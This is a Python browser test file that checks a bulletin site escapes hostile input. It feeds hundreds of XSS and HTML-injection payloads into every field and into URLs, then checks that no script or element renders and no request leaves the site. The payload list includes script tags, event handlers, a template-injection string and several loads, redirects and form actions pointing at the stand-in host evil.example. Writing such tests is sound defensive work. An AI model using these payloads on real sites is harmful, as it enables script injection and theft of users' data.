"""Three hundred and more texts that were written to run, to load or to write something, on every page of a browser."""

from __future__ import annotations

from itertools import product
from typing import TYPE_CHECKING

import pytest

from meshrelay.core.bulletin import Area, Resource, Severity
from tests.browser.test_reader import opened
from tests.web.sample import Author, Place, text

if TYPE_CHECKING:
    from playwright.sync_api import Browser

    from tests.browser.conftest import Serve

pytestmark = [pytest.mark.browser, pytest.mark.full, pytest.mark.timeout(900)]

ENDS = ("", '">', "'>", "</title>", "</span></p>", "-->", "]]>", "</script>", "</style>", "\\", "\n", "</svg>")
DEEDS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<form action=http://evil.example><button autofocus>x",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import url(http://evil.example/x.css)</style>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=http://evil.example/x>",
    "' onmouseover='alert(1)' style='position:fixed;inset:0",
    '" onmouseover="alert(1)" style="position:fixed;inset:0',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ cycler.__init__.__globals__ }}{% for x in [].__class__.__mro__ %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
TEXTS = tuple(end + deed for end, deed in product(ENDS, DEEDS))


def test_no_script_runs_and_no_request_leaves(browser: Browser, serve: Serve, place: Place) -> None:
    assert len(TEXTS) >= 300
    author, known = Author(20), Author(21)
    items = []
    for number, nasty in enumerate(TEXTS):
        words = text(
            nasty, event=nasty, description=nasty, instruction=nasty, sender_name=nasty, contact=nasty, web=nasty
        )
        items.append(
            (known if number % 2 else author).sign(
                words,
                severity=list(Severity)[number % 5],
                areas=(Area((("en", nasty),), geocodes=((nasty, nasty),)),),
                note=nasty,
                audience=nasty,
                source=nasty,
                resources=(Resource(nasty, nasty, nasty),),
            )
        )
    place.anchor(known, TEXTS[0])
    place.put(*items)
    place.relay.store.index_backlog(len(items))
    paths = ["", "about", "search?q=alert", "search?q=evil", "?lane=known", "?lane=unknown"]
    paths += [f"b/{item.id.hex()}" for item in items]
    paths += [
        f"search?q={deed}" for deed in ("%3Cscript%3Ealert(1)%3C/script%3E", "%22%20onfocus=alert(1)%20autofocus")
    ]
    paths += ["?lang=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", "?in=%22%3E%3Csvg%20onload=alert(1)%3E"]
    found: list[str] = []
    with serve(place) as site, opened(browser) as (page, seen):
        for path in paths:
            page.goto(site.url + path)
            page.mouse.move(20, 300)
            made = "main script, main img, main iframe, main form, main [style], main object, main embed, main video"
            found += [
                f"{path}: {made}" for made in page.evaluate(f"[...document.querySelectorAll('{made}')].map(String)")
            ]
            assert page.url.startswith(site.url), path
        assert found == []
        assert [one for one in seen if not one.startswith(site.url)] == []
